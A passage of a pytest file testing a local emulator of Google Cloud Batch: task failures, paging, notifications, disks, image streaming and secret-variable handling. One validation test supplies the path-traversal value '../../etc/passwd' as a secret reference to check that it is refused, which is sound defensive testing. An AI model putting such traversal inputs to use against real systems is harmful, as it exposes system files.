    BATCH_TASK_INDEX, state and TASK_STATE_CHANGED messages; the failing one fails alone and the
    job ends FAILED naming it, as Batch does."""
    topic_path, pull = topic
    client = clients.batch_client(modelled)
    job = make_job({"FAKE_SLEEP_S": "0.05", "FAKE_FAIL_INDEX": "3"}, notifications=[batch_v1.JobNotification(
        pubsub_topic=topic_path, message=batch_v1.JobNotification.Message(type_=batch_v1.JobNotification.Type.TASK_STATE_CHANGED))])
    job.task_groups[0].task_count, job.task_groups[0].parallelism = 6, 2
    boots_before = admin(modelled, "stats")["vms"]["boots"]
    created = create(client, job)
    done = wait_state(client, created.name, {State.SUCCEEDED, State.FAILED}, timeout=60)
    assert done.status.state == State.FAILED
    assert "task with index 3 failed" in done.status.status_events[-1].description
    assert admin(modelled, "stats")["vms"]["boots"] - boots_before == 2, "two VMs, reused for the other four tasks"

    tasks = list(client.list_tasks(request={"parent": f"{created.name}/taskGroups/group0", "page_size": 4}))
    assert [t.name.rsplit("/", 1)[1] for t in tasks] == [str(i) for i in range(6)], "the pager followed both pages"
    assert [t.status.state.name for t in tasks] == ["SUCCEEDED"] * 3 + ["FAILED"] + ["SUCCEEDED"] * 2
    assert tasks[3].status.status_events[-1].task_execution.exit_code == 10

    messages = pull(lambda got: sum(m.attributes["NewTaskState"] in ("SUCCEEDED", "FAILED") for m in got) >= 6)
    ended = {protocol.parse_task_notification(dict(m.attributes), m.data) for m in messages}
    ended = sorted((e.task_index, e.state) for e in ended if e.state in ("SUCCEEDED", "FAILED"))
    assert ended == [(i, "FAILED" if i == 3 else "SUCCEEDED") for i in range(6)]


def test_a_scratch_disk_job_is_stored_as_sent_and_a_volume_without_its_disk_refused(client, endpoint):
    """Issue 26: the service keeps the disks, volume, reservation and streaming flag as Batch
    would show them; the worker runs as a host process in its attempt directory (no VM path is
    mapped for it, the scratch mount path included). A volume naming no attached disk is a 400."""
    Policy = batch_v1.AllocationPolicy
    job = make_job({"FAKE_SLEEP_S": "0"}, runnable=batch_v1.Runnable(container=batch_v1.Runnable.Container(
        image_uri="local/worker:dev", enable_image_streaming=True)))
    job.task_groups[0].task_spec.volumes = [batch_v1.Volume(device_name=protocol.SCRATCH_DEVICE_NAME,
                                                            mount_path=protocol.SCRATCH_MOUNT_PATH)]
    disk = Policy.AttachedDisk(new_disk=Policy.Disk(type_="local-ssd", size_gb=375), device_name=protocol.SCRATCH_DEVICE_NAME)
    job.allocation_policy = Policy(instances=[Policy.InstancePolicyOrTemplate(policy=Policy.InstancePolicy(
        machine_type="n2-standard-8", disks=[disk], reservation="NO_RESERVATION"))])
    created = create(client, job)
    done = wait_state(client, created.name, {State.SUCCEEDED, State.FAILED}, timeout=60)
    assert done.status.state == State.SUCCEEDED
    policy = done.allocation_policy.instances[0].policy
    assert list(policy.disks) == [disk] and policy.reservation == "NO_RESERVATION"
    assert done.task_groups[0].task_spec.volumes[0].mount_path == "/mnt/disks/scratch"
    assert done.task_groups[0].task_spec.runnables[0].container.enable_image_streaming is True

    orphan = make_job({})
    orphan.task_groups[0].task_spec.volumes = [batch_v1.Volume(device_name="data", mount_path="/mnt/disks/data")]
    with pytest.raises(exceptions.BadRequest, match="names device 'data'"):
        create(client, orphan)


def test_image_streaming_shortens_the_modelled_boot(modelled):
    """A streamed image's VM reaches RUNNING in 1 / 2.5 of a pulled one's boot (Nextflow PR #6836)."""
    from covalent_gcpbatch_plugin.local.batch.latency import LatencyModel

    model, client = LatencyModel.realistic(MODEL_SCALE), clients.batch_client(modelled)
    assert model.boot_seconds(image_streaming=True) == pytest.approx(model.boot_s / 2.5)
    streamed = create(client, make_job({"FAKE_SLEEP_S": "0"}, runnable=batch_v1.Runnable(
        container=batch_v1.Runnable.Container(image_uri="local/worker:dev", enable_image_streaming=True))))
    wait_state(client, streamed.name, {State.SUCCEEDED}, timeout=60)
    t = admin(modelled, "stats")["jobs"][job_id_of(streamed)]
    booted = t["RUNNING"] - t["SCHEDULED"]
    assert model.real(model.boot_seconds(image_streaming=True)) - 0.005 <= booted < model.real(model.boot_s)

def test_secret_variables_reach_the_worker_environment_only(client, endpoint, state_dir):
    """Batch's secret_variables, imitated (task_io): each version's value from the secret store
    (``latest``: the highest numbered), in the worker's environment; the job keeps the names only,
    and neither the service's log nor the attempt's log holds a value."""
    job = make_job({"PLAIN": "x"})
    job.task_groups[0].task_spec.environment.secret_variables = {
        "TOKEN_LATEST": f"{SECRET}/versions/latest", "TOKEN_ONE": f"{SECRET}/versions/1"}
    created = create(client, job)
    done = wait_state(client, created.name, {State.SUCCEEDED, State.FAILED})
    assert done.status.state == State.SUCCEEDED, done.status.status_events
    job_id = job_id_of(created)
    seen = json.loads((state_dir / "jobs" / job_id / "attempt-0" / "env.json").read_text())["env"]
    assert (seen["TOKEN_LATEST"], seen["TOKEN_ONE"], seen["PLAIN"]) == (SECRET_VALUES["2"], SECRET_VALUES["1"], "x")
    assert dict(done.task_groups[0].task_spec.environment.secret_variables)["TOKEN_ONE"] == f"{SECRET}/versions/1"
    text = batch_v1.Job.to_json(done) + (state_dir / "jobs" / job_id / "attempt-0.log").read_text()
    text += (state_dir.parent / "service.log").read_text()
    assert not [v for v in SECRET_VALUES.values() if v in text]


def test_a_secret_the_store_lacks_fails_the_task_naming_it_not_retried(client, endpoint):
    job = make_job(retries=3, policy=batch_v1.LifecyclePolicy(
        action=Action.RETRY_TASK, action_condition=batch_v1.LifecyclePolicy.ActionCondition(exit_codes=[50001])))
    job.task_groups[0].task_spec.environment.secret_variables = {"TOKEN": f"projects/{PROJECT}/secrets/absent/versions/1"}
    done = wait_state(client, create(client, job).name, {State.SUCCEEDED, State.FAILED})
    assert done.status.state == State.FAILED
    assert exit_codes(done) == [127]
    assert "secret variable TOKEN: cannot access projects/local-project/secrets/absent/versions/1" in str(done.status.status_events)


@pytest.mark.parametrize("change, message", [
    (lambda spec: spec.environment.secret_variables.update({"TOKEN": "../../etc/passwd"}), "must be projects/PROJECT/secrets"),
    (lambda spec: spec.volumes.append(batch_v1.Volume(nfs=batch_v1.NFS(server="10.0.0.2", remote_path="/x"), mount_path="/mnt/x")),
     "mounts Cloud Storage volumes (gcs) and attached disks at absolute paths only"),
])
def test_unsupported_secrets_and_volumes_are_refused(client, endpoint, change, message):
    job = make_job()
    change(job.task_groups[0].task_spec)
    with pytest.raises(exceptions.BadRequest, match=re.escape(message)):
        create(client, job)
